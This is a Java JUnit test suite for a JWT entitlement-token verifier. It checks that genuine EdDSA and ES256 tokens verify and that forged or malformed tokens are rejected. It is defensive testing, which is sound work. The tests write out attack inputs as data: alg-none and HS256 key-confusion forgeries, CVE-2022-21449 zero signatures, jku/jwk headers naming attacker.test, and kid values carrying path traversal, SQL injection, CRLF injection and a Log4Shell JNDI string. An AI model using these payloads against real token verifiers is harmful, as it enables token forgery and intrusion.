package io.tlswatch.validator.token;

import com.fasterxml.jackson.databind.node.ObjectNode;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.MACVerifier;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.OctetKeyPair;
import com.nimbusds.jose.util.Base64URL;
import io.tlswatch.contract.testing.MutableClock;
import io.tlswatch.validator.token.TokenVerification.Rejected;
import io.tlswatch.validator.token.TokenVerification.Verified;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

import static org.assertj.core.api.Assertions.assertThat;

class TokenVerifierTest {

    private final TokenFixture ed = new TokenFixture(SigningAlgorithm.EDDSA);
    private final TokenFixture es = new TokenFixture(SigningAlgorithm.ES256);

    // ---- what is accepted -------------------------------------------------------------------------------------

    @ParameterizedTest
    @EnumSource(SigningAlgorithm.class)
    void anIssuedTokenVerifiesWithItsClaims(SigningAlgorithm algorithm) {
        // given
        TokenFixture f = new TokenFixture(algorithm);
        IssuedToken issued = f.issue();

        // when
        TokenVerification result = f.verifier.verify(issued.token());

        // then
        assertThat(result).isInstanceOf(Verified.class);
        Verified verified = (Verified) result;
        assertThat(verified.kid()).isEqualTo(f.keys.current().kid());
        EntitlementClaims claims = verified.claims();
        assertThat(claims.issuer()).isEqualTo(TokenFixture.ISSUER);
        assertThat(claims.licenseId()).isEqualTo("lic-42");
        assertThat(claims.audience()).containsExactly(TokenFixture.AUDIENCE);
        assertThat(claims.clientId()).isEqualTo("client-7");
        assertThat(claims.entitlements()).containsExactly("reports", "export");
        assertThat(claims.issuedAt()).isEqualTo(issued.issuedAt());
        assertThat(claims.notBefore()).isEqualTo(issued.issuedAt());
        assertThat(claims.expiresAt()).isEqualTo(issued.expiresAt());
        assertThat(claims.jti()).isEqualTo(issued.jti());
        assertThat(claims.confirmation()).isEqualTo(Confirmation.jkt(TokenFixture.JKT));
    }

    @Test
    void anAudienceArrayThatNamesThisAudienceIsAccepted() {
        // given
        String token = ed.signedClaims(c -> c.putArray("aud").add("someone-else").add(TokenFixture.AUDIENCE));

        // when / then
        assertThat(ed.verifier.verify(token)).isInstanceOf(Verified.class);
    }

    @Test
    void aTypWithTheApplicationPrefixOrInOtherCaseIsTheSameType() {
        // given: RFC 7515 §4.1.9 makes these equal
        String prefixed = ed.signedHeader(h -> h.put("typ", "application/entitlement+jwt"));
        String upper = ed.signedHeader(h -> h.put("typ", "Entitlement+JWT"));

        // when / then
        assertThat(ed.verifier.verify(prefixed)).isInstanceOf(Verified.class);
        assertThat(ed.verifier.verify(upper)).isInstanceOf(Verified.class);
    }

    @Test
    void extraClaimsNestedUpToTheDepthLimitAreAccepted() {
        // given: the payload object is level 1, so seven nested arrays inside reach the limit of 8
        String token = ed.signed(ed.header().toString(),
                ed.claims().toString().replaceFirst("^\\{", "{\"x\":" + Jose.nestedArrays(7) + ","));

        // when / then
        assertThat(ed.verifier.verify(token)).isInstanceOf(Verified.class);
    }

    // ---- the negative suite (issue 3) ---------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(strings = {"none", "None", "NONE", "nOnE"})
    void algNoneIsRefused(String none) {
        // given: an unsigned token, as RFC 7519 §6 allows a careless verifier to accept
        String token = Jose.b64("{\"alg\":\"" + none + "\",\"kid\":\"" + ed.keys.current().kid()
                + "\",\"typ\":\"entitlement+jwt\"}") + "." + Jose.b64(ed.claims().toString()) + ".";

        // when
        TokenVerification result = ed.verifier.verify(token);

        // then
        assertThat(result).isEqualTo(new Rejected(TokenRejection.ALG_NOT_ALLOWED,
                "alg " + none + " is not accepted; tokens are signed with EdDSA or ES256"));
    }

    @Test
    void hs256SignedWithTheEd25519PublicKeyIsRefused() throws JOSEException {
        // given: the key-confusion forgery: HMAC keyed with the public key, which anyone can read in the JWKS
        OctetKeyPair publicKey = (OctetKeyPair) ed.keys.current().publicJwk();
        byte[] secret = publicKey.getDecodedX();
        String header = "{\"alg\":\"HS256\",\"kid\":\"" + publicKey.getKeyID() + "\",\"typ\":\"entitlement+jwt\"}";
        String token = Jose.sign(header, ed.claims().toString(), JWSAlgorithm.HS256, new MACSigner(secret));
        // the forgery is real: a verifier that lets the header pick the algorithm would accept it
        assertThat(naiveHmacVerifies(token, secret)).isTrue();

        // when
        TokenVerification result = ed.verifier.verify(token);

        // then
        assertThat(result).isInstanceOf(Rejected.class);
        assertThat(((Rejected) result).reason()).isEqualTo(TokenRejection.ALG_NOT_ALLOWED);
    }

    @Test
    void hs256SignedWithTheEcPublicKeyIsRefused() throws JOSEException {
        // given: the same forgery keyed with the P-256 key's SubjectPublicKeyInfo, as PEM-based attacks do
        ECKey publicKey = (ECKey) es.keys.current().publicJwk();
        byte[] secret = publicKey.toECPublicKey().getEncoded();
        String header = "{\"alg\":\"HS256\",\"kid\":\"" + publicKey.getKeyID() + "\",\"typ\":\"entitlement+jwt\"}";
        String token = Jose.sign(header, es.claims().toString(), JWSAlgorithm.HS256, new MACSigner(secret));
        assertThat(naiveHmacVerifies(token, secret)).isTrue();

        // when
        TokenVerification result = es.verifier.verify(token);

        // then
        assertThat(((Rejected) result).reason()).isEqualTo(TokenRejection.ALG_NOT_ALLOWED);
    }

    @Test
    void anUnknownKidIsRefused() {
        // given: well-formed, but no key of this ring has it
        String token = ed.signedHeader(h -> h.put("kid", "kPrK_qmxVWaYVA9wwBF6Iuo3vVzz7TxHCTwXBygrS4k"));

        // when
        TokenVerification result = ed.verifier.verify(token);

        // then
        assertThat(result).isEqualTo(new Rejected(TokenRejection.UNKNOWN_KID,
                "no published key has kid kPrK_qmxVWaYVA9wwBF6Iuo3vVzz7TxHCTwXBygrS4k"));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "../../../../../../dev/null",
            "/etc/passwd",
            "..\\..\\keys\\current.jwk",
            "' OR '1'='1",
            "x'; DROP TABLE signing_keys; --",
            "%2e%2e%2f%2e%2e%2fkeys",
            "kid\u0000.jwk",
            "kid\r\nX-Injected: 1",
            "${jndi:ldap://attacker.test/a}",
            "",
            " "})
    void anInjectedKidIsRefusedWithoutBeingEchoed(String kid) {
        // given
        String token = ed.signedHeader(h -> h.put("kid", kid));

        // when
        TokenVerification result = ed.verifier.verify(token);

        // then
        assertThat(result).isEqualTo(new Rejected(TokenRejection.UNKNOWN_KID, "kid is not in key-id format"));
    }

    @Test
    void anOverlongKidIsRefused() {
        // given
        String token = ed.signedHeader(h -> h.put("kid", "a".repeat(129)));

        // when / then
        assertThat(((Rejected) ed.verifier.verify(token)).reason()).isEqualTo(TokenRejection.UNKNOWN_KID);
    }

    @Test
    void aMissingKidIsRefused() {
        // given
        String token = ed.signedHeader(h -> h.remove("kid"));

        // when / then
        assertThat(ed.verifier.verify(token)).isEqualTo(new Rejected(TokenRejection.UNKNOWN_KID, "header has no kid"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"jku", "x5u", "x5c", "jwk", "crit", "x5t", "cty", "b64"})
    void keyLocatingAndUnknownHeadersAreRefused(String parameter) {
        // given: signed with the genuine key, so only the header parameter can cause the refusal
        String token = ed.signedHeader(h -> {
            switch (parameter) {
                case "jku", "x5u" -> h.put(parameter, "https://attacker.test/keys.json");
                case "x5c" -> h.putArray(parameter).add("MIIBszCCAVmgAwIBAgIUQ");
                case "jwk" -> h.set(parameter, h.objectNode().put("kty", "OKP").put("crv", "Ed25519")
                        .put("x", "11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo"));
                case "crit" -> h.putArray(parameter).add("exp");
                case "b64" -> h.put(parameter, false);
                default -> h.put(parameter, "value");
            }
        });

        // when
        TokenVerification result = ed.verifier.verify(token);

        // then
        assertThat(result).isEqualTo(new Rejected(TokenRejection.FORBIDDEN_HEADER, "header parameter " + parameter
                + " is not accepted; the key is chosen by kid among this server's keys only"));
    }

    @Test
    void aTokenSignedByTheKeyInItsOwnJwkHeaderIsRefused() {
        // given: the embedded-key attack: the attacker signs with their key and ships it in the header
        OctetKeyPair attacker = DpopProof.ed25519();
        String header = "{\"alg\":\"EdDSA\",\"kid\":\"" + ed.keys.current().kid() + "\",\"typ\":\"entitlement+jwt\","
                + "\"jwk\":" + attacker.toPublicJWK().toJSONString() + "}";
        String token = Jose.sign(header, ed.claims().toString(), JWSAlgorithm.EdDSA, DpopProof.signerFor(attacker));

        // when / then
        assertThat(((Rejected) ed.verifier.verify(token)).reason()).isEqualTo(TokenRejection.FORBIDDEN_HEADER);
    }

    @Test
    void aTokenSignedByAnotherKeyUnderThisServersKidIsRefused() {
        // given
        OctetKeyPair attacker = DpopProof.ed25519();
        String token = Jose.sign(ed.header().toString(), ed.claims().toString(), JWSAlgorithm.EdDSA,
                DpopProof.signerFor(attacker));

        // when / then
        assertThat(ed.verifier.verify(token)).isEqualTo(new Rejected(TokenRejection.BAD_SIGNATURE,
                "signature does not verify with key " + ed.keys.current().kid()));
    }

    @Test
    void aTamperedPayloadIsRefused() {
        // given: a genuine token whose payload is swapped for one with more entitlements
        String genuine = ed.issue().token();
        String[] parts = genuine.split("\\.");
        ObjectNode claims = ed.claims();
        claims.putArray("entitlements").add("reports").add("export").add("admin");
        String tampered = parts[0] + "." + Jose.b64(claims.toString()) + "." + parts[2];

        // when / then
        assertThat(((Rejected) ed.verifier.verify(tampered)).reason()).isEqualTo(TokenRejection.BAD_SIGNATURE);
    }

    @Test
    void anAlgThatIsNotTheKeysAlgorithmIsRefused() {
        // given: a ring with an ES256 key and a retired EdDSA key; the token names the EdDSA key under ES256
        MutableClock clock = MutableClock.at("2025-03-14T09:00:00Z");
        SigningKey edKey = SigningKey.generate(SigningAlgorithm.EDDSA);
        SigningKey esKey = SigningKey.generate(SigningAlgorithm.ES256);
        SigningKeys mixed = SigningKeys.of(esKey, List.of(edKey), SigningAlgorithm.ES256, Duration.ofMinutes(16), clock);
        TokenVerifier verifier = new TokenVerifier(mixed, ed.settings, clock);
        String header = "{\"alg\":\"ES256\",\"kid\":\"" + edKey.kid() + "\",\"typ\":\"entitlement+jwt\"}";
        String token = Jose.sign(header, ed.claims().toString(), JWSAlgorithm.ES256, esKey.signer());

        // when
        TokenVerification result = verifier.verify(token);

        // then
        assertThat(result).isEqualTo(new Rejected(TokenRejection.ALG_NOT_ALLOWED,
                "alg ES256 is not the algorithm of key " + edKey.kid()));
    }

    @Test
    void expiredBeyondTheLeewayIsRefused() {
        // given: 15 minute token, 60 s leeway
        IssuedToken issued = ed.issue();
        ed.clock.set(issued.expiresAt().plus(Duration.ofSeconds(60)));

        // when
        TokenVerification result = ed.verifier.verify(issued.token());

        // then
        assertThat(((Rejected) result).reason()).isEqualTo(TokenRejection.EXPIRED);
        assertThat(((Rejected) result).detail()).contains("leeway 60 s");
    }

    @Test
    void expiredWithinTheLeewayIsAccepted() {
        // given
        IssuedToken issued = ed.issue();
        ed.clock.set(issued.expiresAt().plus(Duration.ofSeconds(59)));

        // when / then
        assertThat(ed.verifier.verify(issued.token())).isInstanceOf(Verified.class);
    }

    @Test
    void notYetValidBeyondTheLeewayIsRefused() {
        // given: nbf 61 s ahead of the verifier's clock
        long nbf = ed.clock.instant().getEpochSecond() + 61;
        String token = ed.signedClaims(c -> c.put("nbf", nbf));

        // when
        TokenVerification result = ed.verifier.verify(token);

        // then
        assertThat(((Rejected) result).reason()).isEqualTo(TokenRejection.NOT_YET_VALID);
    }

    @Test
    void notYetValidWithinTheLeewayIsAccepted() {
        // given: the issuer's clock 60 s ahead of the verifier's
        long ahead = ed.clock.instant().getEpochSecond() + 60;
        String token = ed.signedClaims(c -> c.put("nbf", ahead).put("iat", ahead).put("exp", ahead + 900));

        // when / then
        assertThat(ed.verifier.verify(token)).isInstanceOf(Verified.class);
    }

    @Test
    void anIatFromTheFutureBeyondTheLeewayIsRefusedEvenWithoutNbf() {
        // given
        long iat = ed.clock.instant().getEpochSecond() + 120;
        String token = ed.signedClaims(c -> {
            c.remove("nbf");
            c.put("iat", iat);
        });

        // when / then
        assertThat(((Rejected) ed.verifier.verify(token)).reason()).isEqualTo(TokenRejection.NOT_YET_VALID);
    }

    @Test
    void es256WithRAndSZeroIsRefused() {
        // given: CVE-2022-21449, a 64-byte all-zero signature that unpatched JDKs 15-18 accepted for any key
        String token = Jose.compact(es.header().toString(), es.claims().toString(), new byte[64]);

        // when
        TokenVerification result = es.verifier.verify(token);

        // then
        assertThat(result).isEqualTo(new Rejected(TokenRejection.BAD_SIGNATURE,
                "ES256 signature with r or s zero (CVE-2022-21449)"));
    }

    @Test
    void es256WithRAndSEqualToTheGroupOrderIsRefused() {
        // given: the same trick with r = s = n, which is zero modulo n
        byte[] n = unsigned32(EcdsaSignatures.P256_ORDER);
        byte[] signature = new byte[64];
        System.arraycopy(n, 0, signature, 0, 32);
        System.arraycopy(n, 0, signature, 32, 32);
        String token = Jose.compact(es.header().toString(), es.claims().toString(), signature);

        // when
        TokenVerification result = es.verifier.verify(token);

        // then
        assertThat(result).isEqualTo(new Rejected(TokenRejection.BAD_SIGNATURE,
                "ES256 signature with r or s not below the group order"));
    }

    @Test
    void es256InDerFormInsteadOfJoseFormIsRefused() throws JOSEException {
        // given: a genuine signature transcoded to DER (70-72 bytes), which JOSE does not use
        String genuine = es.issue().token();
        String[] parts = genuine.split("\\.");
        byte[] der = com.nimbusds.jose.crypto.impl.ECDSA.transcodeSignatureToDER(Base64URL.from(parts[2]).decode());
        String token = parts[0] + "." + parts[1] + "." + Jose.b64(der);

        // when / then
        assertThat(((Rejected) es.verifier.verify(token)).reason()).isEqualTo(TokenRejection.BAD_SIGNATURE);
    }

    @Test
    void anOversizedTokenIsRefusedUnread() {
        // given: a genuinely signed token just over 8 KiB
        String big = "x".repeat(7000);
        String token = ed.signedClaims(c -> c.put("padding", big));
        assertThat(token.length()).isGreaterThan(TokenSettings.DEFAULT_MAX_TOKEN_LENGTH);

        // when / then
        assertThat(ed.verifier.verify(token)).isEqualTo(new Rejected(TokenRejection.TOO_LARGE,
                "longer than 8192 characters"));
    }

    @Test
    void deeplyNestedJsonInThePayloadIsRefusedBeforeParsing() {
        // given: 2,000 levels of arrays, signed with the genuine key
        String token = ed.signed(ed.header().toString(),
                ed.claims().toString().replaceFirst("^\\{", "{\"x\":" + Jose.nestedArrays(2000) + ","));

        // when / then
        assertThat(((Rejected) ed.verifier.verify(token)).reason()).isEqualTo(TokenRejection.TOO_DEEP);
    }

    @Test
    void deeplyNestedJsonInTheHeaderIsRefusedBeforeParsing() {
        // given
        String header = "{\"alg\":\"EdDSA\",\"x\":" + "{\"a\":".repeat(500) + "1" + "}".repeat(500) + "}";
        String token = Jose.compact(header, ed.claims().toString(), new byte[64]);

        // when / then
        assertThat(((Rejected) ed.verifier.verify(token)).reason()).isEqualTo(TokenRejection.TOO_DEEP);
    }

    @Test
    void oneLevelTooDeepIsRefused() {
        // given: eight nested arrays inside the payload object make nine levels
        String token = ed.signed(ed.header().toString(),
                ed.claims().toString().replaceFirst("^\\{", "{\"x\":" + Jose.nestedArrays(8) + ","));

        // when / then
        assertThat(((Rejected) ed.verifier.verify(token)).reason()).isEqualTo(TokenRejection.TOO_DEEP);
    }

    @Test
    void aDuplicatedHeaderMemberIsRefused() {
        // given: two alg members; parsers that keep the first or the last would disagree on the algorithm
        String header = "{\"alg\":\"none\",\"alg\":\"EdDSA\",\"kid\":\"" + ed.keys.current().kid()
                + "\",\"typ\":\"entitlement+jwt\"}";
        String token = ed.signed(header, ed.claims().toString());

        // when / then
        assertThat(((Rejected) ed.verifier.verify(token)).reason()).isEqualTo(TokenRejection.MALFORMED);
    }

    @Test
    void aDuplicatedClaimIsRefused() {
        // given
        String claims = ed.claims().toString().replaceFirst("^\\{", "{\"sub\":\"lic-admin\",");
        String token = ed.signed(ed.header().toString(), claims);

        // when / then
        assertThat(((Rejected) ed.verifier.verify(token)).reason()).isEqualTo(TokenRejection.MALFORMED);
    }

    // ---- type, issuer, audience, claims -------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(strings = {"dpop+jwt", "JWT", "at+jwt", ""})
    void anotherTypIsRefused(String typ) {
        // given: a DPoP proof or another JWT signed by a server key must not pass for an entitlement token
        String token = ed.signedHeader(h -> h.put("typ", typ));

        // when / then
        assertThat(ed.verifier.verify(token)).isEqualTo(new Rejected(TokenRejection.WRONG_TYPE,
                "typ must be entitlement+jwt"));
    }

    @Test
    void aMissingTypIsRefused() {
        // given
        String token = ed.signedHeader(h -> h.remove("typ"));

        // when / then
        assertThat(((Rejected) ed.verifier.verify(token)).reason()).isEqualTo(TokenRejection.WRONG_TYPE);
    }

    @Test
    void anotherIssuerIsRefused() {
        // given
        String token = ed.signedClaims(c -> c.put("iss", "https://evil.test"));

        // when / then
        assertThat(((Rejected) ed.verifier.verify(token)).reason()).isEqualTo(TokenRejection.WRONG_ISSUER);
    }

    @Test
    void anotherAudienceIsRefused() {
        // given
        String token = ed.signedClaims(c -> c.putArray("aud").add("other-product"));

        // when / then
        assertThat(((Rejected) ed.verifier.verify(token)).reason()).isEqualTo(TokenRejection.WRONG_AUDIENCE);
    }

    @ParameterizedTest
    @ValueSource(strings = {"iss", "aud", "exp", "iat", "sub", "cid", "jti", "entitlements", "cnf"})
    void aMissingRequiredClaimIsRefused(String claim) {
        // given
        String token = ed.signedClaims(c -> c.remove(claim));

        // when
        TokenVerification result = ed.verifier.verify(token);

        // then
        assertThat(result).isEqualTo(new Rejected(TokenRejection.MISSING_CLAIM, claim + " is missing"));
    }

    @Test
    void anExpThatIsNotANumberIsRefused() {
        // given
        String token = ed.signedClaims(c -> c.put("exp", "2099-01-01T00:00:00Z"));

        // when / then
        assertThat(((Rejected) ed.verifier.verify(token)).reason()).isEqualTo(TokenRejection.INVALID_CLAIM);
    }

    @Test
    void aCnfWithBothBindingsIsRefused() {
        // given
        String token = ed.signedClaims(c -> ((ObjectNode) c.get("cnf")).put("x5t#S256", TokenFixture.JKT));

        // when / then
        assertThat(ed.verifier.verify(token)).isEqualTo(new Rejected(TokenRejection.INVALID_CLAIM,
                "cnf must hold exactly one of jkt and x5t#S256"));
    }

    @Test
    void aCnfThatIsNotADigestIsRefused() {
        // given
        String token = ed.signedClaims(c -> c.putObject("cnf").put("jkt", "not-a-thumbprint"));

        // when / then
        assertThat(((Rejected) ed.verifier.verify(token)).reason()).isEqualTo(TokenRejection.INVALID_CLAIM);
    }

    // ---- binding ---------------------------------------------------------------------------------------------------

    @Test
    void aTokenIsBoundToTheKeyInItsCnf() {
        // given
        EntitlementClaims claims = ((Verified) ed.verifier.verify(ed.issue().token())).claims();

        // when / then
        assertThat(ed.verifier.checkBinding(claims, TokenFixture.JKT)).isEmpty();
        assertThat(ed.verifier.checkBinding(claims, Confirmation.jkt(TokenFixture.JKT))).isEmpty();
    }

    @Test
    void aProofByAnotherKeyThanTheBoundOneIsABindingMismatch() {
        // given
        EntitlementClaims claims = ((Verified) ed.verifier.verify(ed.issue().token())).claims();
        String otherJkt = Confirmation.jwk(DpopProof.ed25519()).value();

        // when / then
        assertThat(ed.verifier.checkBinding(claims, otherJkt)).contains(new Rejected(TokenRejection.BINDING_MISMATCH,
                "the proof's jkt differs from the token's cnf.jkt"));
        assertThat(ed.verifier.verify(ed.issue().token(), Confirmation.jkt(otherJkt)))
                .isInstanceOf(Rejected.class);
    }

    @Test
    void aClientCertificateDoesNotSatisfyADpopBinding() {
        // given
        EntitlementClaims claims = ((Verified) ed.verifier.verify(ed.issue().token())).claims();
        Confirmation certificate = Confirmation.certificateDer(new byte[] {1, 2, 3});

        // when / then
        assertThat(ed.verifier.checkBinding(claims, certificate).map(Rejected::reason))
                .contains(TokenRejection.BINDING_MISMATCH);
        assertThat(ed.verifier.checkBinding(claims, (Confirmation) null).map(Rejected::reason))
                .contains(TokenRejection.BINDING_MISMATCH);
        assertThat(ed.verifier.checkBinding(claims, "../etc").map(Rejected::reason))
                .contains(TokenRejection.BINDING_MISMATCH);
    }

    // ---- no input makes it throw -----------------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(strings = {"", "   ", "abc", "a.b", "a.b.c.d", "a.b.c.d.e", "..", "e30.e30.", "e30=.e30.AA",
            "W10.e30.AA", "bnVsbA.e30.AA", "!!!.e30.AA", "eyJhbGciOiJFZERTQSJ9.e30.@@"})
    void garbageIsMalformed(String token) {
        // when
        TokenVerification result = ed.verifier.verify(token);

        // then
        assertThat(((Rejected) result).reason()).isIn(TokenRejection.MALFORMED, TokenRejection.ALG_NOT_ALLOWED);
    }

    @Test
    void nullIsMalformed() {
        assertThat(((Rejected) ed.verifier.verify(null)).reason()).isEqualTo(TokenRejection.MALFORMED);
    }

    @Test
    void randomMutationsOfAGenuineTokenNeverThrowAndNeverVerify() {
        // given: a fixed seed, so a failure is reproducible
        String genuine = es.issue().token();
        Random random = new Random(20250314);
        char[] alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.=+/{}\"".toCharArray();

        for (int i = 0; i < 2000; i++) {
            // when: one to four characters replaced
            char[] mutated = genuine.toCharArray();
            for (int k = 0; k <= random.nextInt(4); k++) {
                mutated[random.nextInt(mutated.length)] = alphabet[random.nextInt(alphabet.length)];
            }
            String candidate = new String(mutated);
            if (candidate.equals(genuine)) {
                continue;
            }
            TokenVerification result = es.verifier.verify(candidate);

            // then: some base64 mutations decode to the same bytes; anything else must be refused
            if (result instanceof Verified) {
                assertThat(sameDecodedBytes(candidate, genuine)).as(candidate).isTrue();
            }
        }
    }

    private static boolean sameDecodedBytes(String a, String b) {
        String[] pa = a.split("\\.", -1);
        String[] pb = b.split("\\.", -1);
        if (pa.length != 3 || pb.length != 3) {
            return false;
        }
        for (int i = 0; i < 3; i++) {
            if (i < 2 && !pa[i].equals(pb[i])) {
                return false;
            }
            byte[] da = CompactJws.decode(pa[i]);
            byte[] db = CompactJws.decode(pb[i]);
            if (da == null || !Arrays.equals(da, db)) {
                return false;
            }
        }
        return true;
    }

    private static boolean naiveHmacVerifies(String token, byte[] secret) throws JOSEException {
        String[] parts = token.split("\\.");
        return new MACVerifier(secret).verify(new JWSHeader(JWSAlgorithm.HS256),
                (parts[0] + "." + parts[1]).getBytes(StandardCharsets.US_ASCII), Base64URL.from(parts[2]));
    }

    private static byte[] unsigned32(BigInteger value) {
        byte[] raw = value.toByteArray();
        byte[] out = new byte[32];
        int copy = Math.min(raw.length, 32);
        System.arraycopy(raw, raw.length - copy, out, 32 - copy, copy);
        return out;
    }

}
